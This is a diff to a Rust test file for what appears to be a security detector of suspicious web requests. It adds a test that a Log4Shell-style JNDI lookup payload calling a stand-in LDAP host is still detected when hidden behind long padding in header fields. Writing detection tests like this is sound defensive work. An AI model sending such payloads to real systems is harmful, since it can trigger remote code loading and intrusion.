@@ -96,6 +96,50 @@ fn code_in_other_fields_is_found() {
     }
 }
 
+/// Whatever a client puts before its payload, the payload is judged, or that it was not is told.
+#[test]
+fn padding_hides_no_code() {
+    let payload = "${jndi:ldap://e.example/a}";
+    let found = |target: &str, agent: &str, whole_agent: Option<&str>, referer: &str| {
+        let mut event = event_of(target, agent, referer);
+        if let Some(whole) = whole_agent {
+            let details = serde_json::json!({ "referer": referer, "user_agent": whole });
+            event.details = model::event::Details::from_json(details.to_string());
+        }
+        let code = find_code(&event);
+        assert_eq!(code.is_some(), is_suspicious(&event));
+        code
+    };
+
+    let pad = "x".repeat(600);
+    let whole = format!("{pad}{payload}");
+    assert_eq!(
+        found("/", &pad[..500], Some(&whole), ""),
+        Some((Code::Command, Field::UserAgent))
+    );
+    assert_eq!(
+        found("/", "curl", None, &whole),
+        Some((Code::Command, Field::Referer))
+    );
+
+    let cut = "x".repeat(FIELD_BYTES_MAX);
+    let full = |field| Some((Code::TooLong, field));
+    assert_eq!(found(&cut, "curl", None, ""), full(Field::Target));
+    assert_eq!(
+        found("/", &cut[..500], Some(&cut), ""),
+        full(Field::UserAgent)
+    );
+    assert_eq!(found("/", "curl", None, &cut), full(Field::Referer));
+
+    // What is long and whole is nothing by itself.
+    let long = &cut[..8000];
+    let agent = &long[..500];
+    let mut event = event_of(long, agent, long);
+    let details = serde_json::json!({ "referer": long, "user_agent": long });
+    event.details = model::event::Details::from_json(details.to_string());
+    assert_eq!(find_code(&event), None);
+}
+
 #[test]
 fn the_prefilter_passes_few_ordinary_targets() {
     for target in [
